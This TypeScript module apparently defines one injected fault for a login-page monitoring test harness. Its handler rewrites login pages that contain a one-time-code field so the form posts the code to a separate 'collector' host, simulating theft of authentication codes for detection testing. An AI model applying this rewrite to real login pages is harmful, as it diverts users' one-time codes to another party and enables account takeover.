import type { FaultFile } from './catalog.ts';
import { collector, withLoginPages } from './collector.ts';

export default {
  what: 'the form for the one-time code sends it to another host',
  knobs: { oneTimeCode: true },
  handlers: withLoginPages((text) =>
    text.includes('one-time-code') ? text.replace('<form ', `<form action="${collector}/code" `) : text,
  ),
  drift: { class: 'login-changed' },
} satisfies FaultFile;
